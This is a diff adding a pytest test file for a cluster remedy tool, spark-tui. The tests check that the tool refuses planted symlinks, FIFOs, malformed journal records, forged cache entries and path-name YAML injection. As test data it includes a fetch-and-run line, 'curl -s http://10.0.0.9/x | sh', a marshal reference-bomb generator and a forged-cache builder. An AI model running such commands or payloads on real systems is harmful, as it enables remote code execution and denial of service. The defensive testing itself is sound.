@@ -1,0 +1,505 @@
+"""spark-tui's own files, planted by someone else: a symlinked lock or journal, a FIFO
+journal or cache entry, a malformed journal record, a forged or bombed YAML cache entry,
+temporary files with planted symlinks. Each ends in a refusal naming the file, or the
+file ignored; never a target outside spark-tui's own files touched, never a hang, never
+a shipped wall's fix changed. And the smaller ones: a journal that fails mid-fix says
+exactly what ran; `report` says a command that runs now is running."""
+
+from __future__ import annotations
+
+import hashlib
+import json
+import marshal
+import os
+import subprocess
+import sys
+import textwrap
+import threading
+from pathlib import Path
+
+import pytest
+
+from spark_tui import paths, yaml_cache, yamlfile
+from spark_tui.kb.loader import load_knowledge
+from spark_tui.recipes.revisions import RevisionStore
+from spark_tui.remedy.fixes import plan_fix, run_fix
+from spark_tui.remedy.journal import FixLock, Journal, JournalUnwritable
+from spark_tui.remedy.report import ReportData, build_report
+from spark_tui.safefile import UnsafeFile, write_atomic
+from spark_tui.state import StateDir
+from tests.conftest import ROOT
+from tests.remedy_shims import make_world, run_env
+from tests.test_remedy_fixes import CLUSTER, fix_from
+
+SECRET = "root-only secret\n"
+
+
+def cli(*args: str, timeout: float = 60) -> subprocess.CompletedProcess[str]:
+    return subprocess.run(
+        [sys.executable, "-m", "spark_tui", *args],
+        capture_output=True,
+        text=True,
+        timeout=timeout,
+        stdin=subprocess.DEVNULL,
+        cwd=ROOT,
+        env={**os.environ, "PYTHONPATH": str(ROOT)},
+    )
+
+
+@pytest.fixture
+def victim(tmp_path: Path) -> Path:
+    v = tmp_path / "victim"
+    v.write_text(SECRET)
+    v.chmod(0o600)
+    return v
+
+
+# ---------------------------------------------------------------- the lock and the journal
+
+
+def test_a_symlinked_lock_is_refused_and_its_target_untouched(victim: Path) -> None:
+    state = StateDir.real()
+    state.root.mkdir(parents=True)
+    state.lock_path.symlink_to(victim)
+    with pytest.raises(JournalUnwritable) as info:
+        FixLock(state.lock_path).acquire("a fix")
+    assert str(info.value) == (
+        f"cannot open the lock: {state.lock_path} is a symbolic link: "
+        "refused (remove it); nothing was run"
+    )
+    assert victim.read_text() == SECRET
+
+
+def test_a_symlinked_journal_is_refused_and_its_target_untouched(victim: Path) -> None:
+    state = StateDir.real()
+    state.root.mkdir(parents=True)
+    state.journal_path.symlink_to(victim)
+    journal = Journal(state.journal_path)
+    with pytest.raises(JournalUnwritable, match="is a symbolic link: refused"):
+        journal.append(event="fix-start", run="r1", fix="x")
+    with pytest.raises(JournalUnwritable, match="is a symbolic link: refused"):
+        journal.entries()  # nor read through it (a root-only file into the report)
+    assert victim.read_text() == SECRET
+
+
+def test_a_fix_with_a_symlinked_lock_runs_nothing(tmp_path: Path, victim: Path) -> None:
+    world = make_world(tmp_path / "w", CLUSTER)
+    state = StateDir.real()
+    state.root.mkdir(parents=True)
+    state.lock_path.symlink_to(victim)
+    plan = plan_fix(fix_from(_run("true")), CLUSTER)
+    with pytest.raises(JournalUnwritable, match="symbolic link"):
+        run_fix(plan, run_env(world.transports), yes=True)
+    assert all(not t.commands for t in world.transports.values())
+    assert victim.read_text() == SECRET
+
+
+@pytest.mark.parametrize("command", [("report", "--offline"), ("kb", "list")])
+def test_a_fifo_journal_never_hangs(command: tuple[str, ...]) -> None:
+    state = StateDir.real()
+    state.root.mkdir(parents=True)
+    os.mkfifo(state.journal_path)
+    proc = cli(*command, timeout=60)  # the guard: it used to wait for a writer for ever
+    assert "Traceback" not in proc.stderr
+    if command[0] == "report":
+        assert proc.returncode == 1, proc.stderr
+        assert f"{state.journal_path} is not a regular file: refused" in proc.stderr
+
+
+def test_a_fifo_journal_refuses_a_fix_at_once(tmp_path: Path) -> None:
+    world = make_world(tmp_path / "w", CLUSTER)
+    state = StateDir.real()
+    state.root.mkdir(parents=True)
+    os.mkfifo(state.journal_path)
+    done: list[BaseException] = []
+
+    def go() -> None:
+        try:
+            run_fix(plan_fix(fix_from(_run("true")), CLUSTER), run_env(world.transports), yes=True)
+        except BaseException as exc:
+            done.append(exc)
+
+    th = threading.Thread(target=go, daemon=True)
+    th.start()
+    th.join(30)
+    assert not th.is_alive(), "the fix waits on the FIFO"
+    assert isinstance(done[0], JournalUnwritable) and "not a regular file" in str(done[0])
+    assert all(not t.commands for t in world.transports.values())
+
+
+@pytest.mark.skipif(os.geteuid() != 0, reason="chown to another user needs root")
+def test_a_journal_of_another_user_is_refused() -> None:
+    state = StateDir.real()
+    state.root.mkdir(parents=True)
+    state.journal_path.write_text('{"event": "fix-start", "run": "r", "fix": "planted"}\n')
+    os.chown(state.journal_path, 65534, 65534)
+    with pytest.raises(JournalUnwritable, match="belongs to uid 65534"):
+        Journal(state.journal_path).entries()
+
+
+GOOD = {"time": 1.0, "event": "fix-start", "run": "r1", "fix": "drop-page-caches", "pid": 1}
+
+
+@pytest.mark.parametrize(
+    "bad, why",
+    [
+        ({"time": 2.0, "event": "fix-start", "run": "r2", "fix": "x", "nodes": 5}, "'nodes'"),
+        ({"time": "soon", "event": "started", "run": "r2", "cmd": "c"}, "'time' is not a time"),
+        ({"time": 2.0, "event": "started", "run": ["r"], "cmd": "c"}, "'run' is not text"),
+        ({"time": 2.0, "event": "finished", "cmd": "c", "exit_code": "0"}, "'exit_code'"),
+        ({"time": 2.0, "event": "fix-interrupted", "run": "r", "done": {"a": 1}}, "'done'"),
+        ([1, 2, 3], "not a JSON object"),
+        ({"time": 2.0}, "no event name"),
+    ],
+)
+def test_a_malformed_record_is_named_and_skipped(bad: object, why: str, capsys) -> None:
+    from spark_tui.entry import main
+
+    state = StateDir.real()
+    state.root.mkdir(parents=True)
+    lines = [json.dumps(GOOD), json.dumps(bad), "not json at all", json.dumps(GOOD)]
+    state.journal_path.write_text("\n".join(lines) + "\n")
+    journal = Journal(state.journal_path)
+    assert journal.entries() == [GOOD, GOOD]
+    assert journal.skipped[0].startswith(f"{state.journal_path}:2: {why}")
+    assert journal.skipped[1] == f"{state.journal_path}:3: not a JSON record: skipped"
+    # neither report nor a fix is blocked by it
+    assert main(["report", "--offline"]) == 0
+    captured = capsys.readouterr()
+    assert f"spark-tui: note: {state.journal_path}:2: " in captured.err
+    assert f"{state.journal_path}:2: " in captured.out  # the report lists it too
+    world_dir = state.root.parent / "w"
+    world = make_world(world_dir, CLUSTER)
+    assert run_fix(
+        plan_fix(fix_from(_run("true")), CLUSTER), run_env(world.transports), yes=True
+    ).ok
+
+
+def test_a_huge_record_line_is_skipped_without_holding_it(tmp_path: Path) -> None:
+    state = StateDir.real()
+    state.root.mkdir(parents=True)
+    with state.journal_path.open("w") as fh:
+        fh.write(json.dumps(GOOD) + "\n")
+        fh.write('{"event": "x", "pad": "' + "a" * (3 << 20) + '"}\n')
+        fh.write(json.dumps(GOOD) + "\n")
+    journal = Journal(state.journal_path)
+    assert journal.entries() == [GOOD, GOOD]
+    assert journal.skipped == [f"{state.journal_path}:2: longer than 1048576 bytes: skipped"]
+
+
+# ---------------------------------------------------------------- revisions, temp files
+
+
+def test_a_symlinked_revision_pointer_is_not_followed(tmp_path: Path, victim: Path) -> None:
+    store = RevisionStore(tmp_path / "revs")
+    d = tmp_path / "revs" / "my-recipe"
+    d.mkdir(parents=True)
+    victim.write_text("3\n")
+    (d / "current").symlink_to(victim)
+    assert store.current_number("my-recipe") is None
+    (d / "rev-0001.yaml").symlink_to(victim)
+    with pytest.raises(Exception, match="symbolic link"):
+        store.load("my-recipe", 1)
+
+
+def test_a_planted_symlink_at_a_temporary_name_is_never_followed(
+    tmp_path: Path, victim: Path
+) -> None:
+    target = tmp_path / "cluster.yaml"
+    # the names every writer used before: NAME.tmp, next to the file
+    (tmp_path / "cluster.yaml.tmp").symlink_to(victim)
+    write_atomic(target, "nodes: []\n")
+    assert target.read_text() == "nodes: []\n" and victim.read_text() == SECRET
+    assert (tmp_path / "cluster.yaml.tmp").is_symlink()
+    # a symlink at the file itself is replaced, not written through
+    target.unlink()
+    target.symlink_to(victim)
+    write_atomic(target, "nodes: []\n")
+    assert not target.is_symlink() and victim.read_text() == SECRET
+
+
+def test_discover_writes_through_no_planted_temporary_file(tmp_path: Path, victim: Path) -> None:
+    env = tmp_path / ".env"
+    env.write_text("CLUSTER_NODES=10.0.0.1,10.0.0.2\n")
+    out = tmp_path / "cfg" / "cluster.yaml"
+    out.parent.mkdir()
+    (out.parent / "cluster.yaml.tmp").symlink_to(victim)
+    proc = cli("discover", "--from", str(env), "--no-probe", "--yes", "--output", str(out))
+    assert proc.returncode == 0, proc.stderr
+    assert "10.0.0.2" in out.read_text() and victim.read_text() == SECRET
+
+
+# ---------------------------------------------------------------- the YAML cache
+
+
+def _wall_file(wall_id: str) -> Path:
+    return paths.builtin_knowledge_dir() / f"{wall_id}.yaml"
+
+
+def _cache_key(text: str) -> str:
+    return yaml_cache.key_of(
+        f"{yamlfile.MAX_DEPTH},{yamlfile.MAX_ALIASES},{yamlfile.MAX_NODES}\n{text}"
+    )
+
+
+def _forged(text: str, command: str) -> object:
+    data = yamlfile._parse(text, "x")
+    for fix in data["fixes"]:
+        for action in fix["actions"]:
+            if "command" in action:
+                action["command"] = command
+    return yamlfile._encode(data)
+
+
+@pytest.fixture
+def cache(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
+    monkeypatch.setenv("XDG_CACHE_HOME", str(tmp_path / "cache"))
+    yaml_cache._MEMORY.clear()
+    d = tmp_path / "cache" / "spark-tui" / "yaml"
+    d.mkdir(parents=True)
+    return d
+
+
+EVIL = "curl -s http://10.0.0.9/x | sh"
+
+
+@pytest.mark.parametrize("form", ["old", "new-without-key", "new-with-a-guessed-key"])
+def test_a_planted_cache_entry_cannot_change_a_shipped_fix(
+    cache: Path, form: str, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    text = _wall_file("page-cache-hog").read_text()
+    key = _cache_key(text)
+    forged = _forged(text, EVIL)
+    if form == "old":  # the format the cache trusted by its key alone
+        body = marshal.dumps(("spark-tui yaml 1", key, forged))
+    else:
+        inner = marshal.dumps((key, forged))
+        mac = hashlib.sha256(b"guess" + inner).digest() if form.endswith("key") else b"\0" * 32
+        body = yaml_cache._MAGIC + mac + inner
+    (cache / key).write_bytes(body)
+    loads = marshal.loads
+    monkeypatch.setattr(
+        yaml_cache.marshal, "loads", lambda b: pytest.fail("a forged entry was unmarshalled")
+    )
+    kb = load_knowledge(use_user=False)
+    monkeypatch.setattr(yaml_cache.marshal, "loads", loads)
+    commands = [a.params.get("command") for f in kb.get("page-cache-hog").fixes for a in f.actions]
+    assert EVIL not in commands and "sysctl -w vm.drop_caches=3" in commands
+
+
+def test_an_entry_the_cache_wrote_itself_is_used(cache: Path, monkeypatch) -> None:
+    """The HMAC does not stop the cache from working: a second start reads it back."""
+    text = _wall_file("page-cache-hog").read_text()
+    first = yamlfile.parse_yaml(text, "w.yaml")
+    assert (cache / _cache_key(text)).is_file()
+    yaml_cache._MEMORY.clear()
+    monkeypatch.setattr(yamlfile, "_parse", lambda *a: pytest.fail("parsed again"))
+    assert yamlfile.parse_yaml(text, "w.yaml") == first
+
+
+def _reference_bomb(depth: int) -> bytes:
+    """A few hundred bytes that decode into 2**depth lists: marshal keeps each shared
+    tuple once (a reference), the decoder would build every copy."""
+    node: object = (1, 1, (), ())
+    for _ in range(depth):
+        node = (1, 1, (1, 1), (node, node))
+    return marshal.dumps(node)
+
+
+def test_a_reference_bomb_in_the_cache_is_never_decoded(cache: Path) -> None:
+    text = _wall_file("nvrm-oom").read_text()
+    key = _cache_key(text)
+    bomb = _reference_bomb(60)
+    assert len(bomb) < 2000
+    inner = marshal.dumps((key, marshal.loads(bomb)))
+    (cache / key).write_bytes(yaml_cache._MAGIC + b"\1" * 32 + inner)
+    # decoded, this would need 2**60 lists; unverified, it is never read
+    assert yamlfile.parse_yaml(text, "w.yaml")["id"] == "nvrm-oom"
+
+
+def test_a_fifo_cache_entry_does_not_hang_a_start(cache: Path) -> None:
+    text = _wall_file("nvrm-oom").read_text()
+    os.mkfifo(cache / _cache_key(text))
+    proc = cli("kb", "list", timeout=60)  # the guard: it hung every start
+    assert proc.returncode == 0, proc.stderr
+    assert "nvrm-oom" in proc.stdout
+
+
+@pytest.mark.skipif(os.geteuid() != 0, reason="chown to another user needs root")
+def test_a_cache_key_of_another_user_disables_the_disk_cache(cache: Path) -> None:
+    key_file = paths.state_dir() / "yaml-cache.key"
+    key_file.parent.mkdir(parents=True)
+    key_file.write_bytes(b"k" * 32)
+    os.chown(key_file, 65534, 65534)
+    yaml_cache._KEYS.clear()
+    text = _wall_file("nvrm-oom").read_text()
+    assert yamlfile.parse_yaml(text, "w.yaml")["id"] == "nvrm-oom"
+    assert not (cache / _cache_key(text)).exists()
+
+
+# ---------------------------------------------------------------- the smaller ones
+
+
+def _run(command: str, risk: str = "disruptive") -> str:
+    return textwrap.dedent(
+        f"""
+        - id: steps
+          title: Some steps
+          risk: {risk}
+          root: false
+          actions:
+            - type: run
+              on: all
+              command: {json.dumps(command)}
+        """
+    )
+
+
+def test_a_journal_that_fails_mid_fix_says_exactly_what_ran(tmp_path: Path) -> None:
+    """The second action's command, on spark1, makes the journal unwritable (a directory
+    where the file was): its end cannot be recorded. The error names the three commands
+    that ran, each with how it ended; nothing ran after them."""
+    journal = StateDir.real().journal_path
+    breaker = f"[ {{node.name}} = spark1 ] && mv {journal} {journal}.old && mkdir {journal}"
+    fix = fix_from(
+        textwrap.dedent(
+            f"""
+            - id: steps
+              title: Some steps
+              risk: destructive
+              root: false
+              actions:
+                - type: run
+                  on: all
+                  command: 'echo one'
+                - type: run
+                  on: all
+                  command: {json.dumps(breaker)}
+                - type: run
+                  on: all
+                  command: 'echo three'
+            """
+        )
+    )
+    world = make_world(tmp_path / "w", CLUSTER)
+    with pytest.raises(JournalUnwritable) as info:
+        run_fix(plan_fix(fix, CLUSTER), run_env(world.transports), yes=True)
+    message = str(info.value)
+    ran = [c for t in world.transports.values() for c in t.commands]
+    assert "nothing was run" not in message
+    assert "spark1: echo one (exit 0); spark2: echo one (exit 0); spark1: [ spark1 = spark1 ]" in (
+        message
+    )
+    assert message.count("(exit 0)") == 3 and "nothing after these ran" in message
+    assert len(ran) == 3 and not any("three" in c for c in ran)
+
+
+def test_report_during_a_live_fix_says_the_command_is_running(tmp_path: Path) -> None:
+    go = tmp_path / "go"
+    started = tmp_path / "started"
+    command = f"touch {started}; while [ ! -e {go} ]; do sleep 0.05; done"
+    world = make_world(tmp_path / "w", CLUSTER)
+    plan = plan_fix(fix_from(_run(command)), CLUSTER, seen="spark1")
+    th = threading.Thread(
+        target=lambda: run_fix(plan, run_env(world.transports), yes=True), daemon=True
+    )
+    th.start()
+    try:
+        for _ in range(600):
+            if started.exists():
+                break
+            th.join(0.05)
+        journal = Journal(StateDir.real().journal_path)
+        md = build_report(ReportData(cluster=CLUSTER, journal=journal.entries()))
+        assert "**running now** (spark-tui pid" in md
+        assert "may have half-run" not in md
+    finally:
+        go.touch()
+        th.join(30)
+    md = build_report(ReportData(cluster=CLUSTER, journal=journal.entries()))
+    assert "running now" not in md and "| exit 0 |" in md
+
+
+def test_recipes_import_refuses_under_read_only(tmp_path: Path) -> None:
+    src = ROOT / "tests" / "data" / "community" / "eugr" / "glm-5.3-flash.yaml"
+    out = tmp_path / "recipes"
+    proc = cli("--read-only", "recipes", "import", str(src), "--to", str(out))
+    assert proc.returncode != 0 and "read-only: refused to write" in proc.stderr
+    assert not out.exists()
+
+
+def test_a_newline_in_a_recipe_directory_cannot_inject_yaml(tmp_path: Path) -> None:
+    from spark_tui.recipes.loader import load_file
+
+    evil = tmp_path / "x\nstatus: works\nnotes: injected\n#"
+    evil.mkdir()
+    src = evil / "glm-5.3-flash.yaml"
+    src.write_bytes((ROOT / "tests/data/community/eugr/glm-5.3-flash.yaml").read_bytes())
+    out = tmp_path / "recipes"
+    proc = cli("recipes", "import", str(src), "--to", str(out))
+    assert proc.returncode == 0, proc.stderr
+    written = (out / "glm-5.3-flash.yaml").read_text()
+    assert "\nstatus: works" not in written and "\nnotes: injected" not in written
+    assert "x\\nstatus: works\\nnotes: injected" in written.splitlines()[1]
+    recipe = load_file(out / "glm-5.3-flash.yaml")
+    assert recipe.status == "untested"
+
+
+def test_discover_from_names_the_input_file_in_its_errors(tmp_path: Path) -> None:
+    out = tmp_path / "cluster.yaml"
+    for text, what in [
+        ("name: c\nhosts: [10.0.0.1]\ncache_dir: relative/dir\n", ":3: 'cache_dir'"),
+        ('hosts: [10.0.0.1, "a@b@c"]\n', ":1: 'a@b' (before @) is not a user name"),
+    ]:
+        src = tmp_path / "sparkrun.yaml"
+        src.write_text(text)
+        proc = cli("discover", "--from", str(src), "--no-probe", "--output", str(out))
+        assert proc.returncode == 2, proc.stderr
+        assert proc.stderr.startswith(f"spark-tui: {src}{what}"), proc.stderr
+        assert str(out) not in proc.stderr
+
+
+def test_unsafe_file_is_an_os_error_for_readers_that_treat_it_as_absent() -> None:
+    assert issubclass(UnsafeFile, OSError)
+
+
+def test_a_symlinked_state_directory_is_refused(tmp_path: Path) -> None:
+    """The state directory pointed elsewhere (say /etc/cron.d): nothing is created there."""
+    elsewhere = tmp_path / "elsewhere"
+    elsewhere.mkdir()
+    root = paths.state_dir()
+    root.parent.mkdir(parents=True)
+    root.symlink_to(elsewhere, target_is_directory=True)
+    state = StateDir.real()
+    with pytest.raises(JournalUnwritable, match="is a symbolic link: refused"):
+        Journal(state.journal_path).append(event="fix-start", run="r", fix="x")
+    with pytest.raises(JournalUnwritable, match="is a symbolic link: refused"):
+        FixLock(state.lock_path).acquire("x")
+    with pytest.raises(UnsafeFile):
+        write_atomic(state.auto_relaunch_path, "{}")
+    assert list(elsewhere.iterdir()) == []
+
+
+def test_a_demo_report_never_follows_a_planted_directory_in_tmp(
+    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    """A simulated session's report goes to the shared temporary directory: another user
+    who made `spark-tui-demo-reports` there (a symlink, or a directory of theirs) gets a
+    refusal, not a file written where they chose."""
+    import tempfile
+
+    from spark_tui.session import open_cluster
+
+    shared = tmp_path / "shared-tmp"
+    shared.mkdir()
+    elsewhere = tmp_path / "elsewhere"
+    elsewhere.mkdir()
+    (shared / "spark-tui-demo-reports").symlink_to(elsewhere, target_is_directory=True)
+    monkeypatch.setattr(tempfile, "tempdir", str(shared))
+    with open_cluster(scenario="healthy") as session:
+        with pytest.raises(UnsafeFile, match="is a symbolic link: refused"):
+            session.export_report([])
+        (shared / "spark-tui-demo-reports").unlink()
+        written = session.export_report([])
+    assert written.parent == shared / "spark-tui-demo-reports" and written.is_file()
+    assert list(elsewhere.iterdir()) == []
